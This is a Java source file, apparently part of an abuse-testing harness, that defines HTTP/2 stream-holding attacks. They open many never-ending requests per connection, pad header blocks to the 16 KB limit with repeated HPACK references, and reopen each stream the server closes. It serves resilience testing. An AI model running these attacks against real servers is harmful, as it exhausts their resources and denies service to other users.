package io.resound.abuse;

import java.nio.ByteBuffer;
import java.time.Duration;

import org.jspecify.annotations.Nullable;

/**
 * Opens streams whose requests never end, and opens another for each that the service
 * ends.
 *
 * @param name the name of the attack
 * @param streams how many streams a connection has open
 * @param firstBlock the header block of a connection's first stream
 * @param block the header block of all others
 * @param body how many bytes of its body each request sends
 */
record HeldStreams(String name, int streams, byte[] firstBlock, byte[] block, int body) implements Attack {

	/**
	 * As many fields as fit a header list of 16 KB (RFC 9113 section 6.5.2), each a
	 * reference of one byte.
	 */
	static HeldStreams ofManyFields() {
		return new HeldStreams("HTTP/2: heads of 480 references, 100 streams each", 100,
				HeaderBlock.post().kept("a", "").repeated(479).bytes(), HeaderBlock.post().repeated(480).bytes(), 0);
	}

	/** As many bytes as fit a header list of 16 KB, in fields of which each is new. */
	static HeldStreams ofManyBytes() {
		HeaderBlock block = HeaderBlock.post();
		for (int i = 0; i < 90; i++) {
			block.field("a", "x".repeat(145));
		}
		return new HeldStreams("HTTP/2: heads of 16 KB in 94 fields, 100 streams each", 100, block.bytes(),
				block.bytes(), 0);
	}

	/** Requests like any other, of which the body has begun. */
	static HeldStreams ofPlainRequests() {
		byte[] block = HeaderBlock.post().bytes();
		return new HeldStreams("HTTP/2: 64 streams each, opened and left", 64, block, block, 1);
	}

	@Override
	public Duration timeLimit() {
		return STALL_TIMEOUT;
	}

	@Override
	public Script script() {
		return new Http2Script(Frames.INITIAL_WINDOW) {

			private byte[] nextBlock = HeldStreams.this.firstBlock;

			@Override
			@Nullable ByteBuffer more() {
				if (!mayOpen(HeldStreams.this.streams)) {
					return null;
				}
				int stream = open();
				ByteBuffer head = Frames.frame(Frames.HEADERS, Frames.END_HEADERS, stream, this.nextBlock);
				this.nextBlock = HeldStreams.this.block;
				return (HeldStreams.this.body == 0) ? head
						: Frames.together(head, Frames.frame(Frames.DATA, 0, stream, new byte[HeldStreams.this.body]));
			}

		};
	}

}
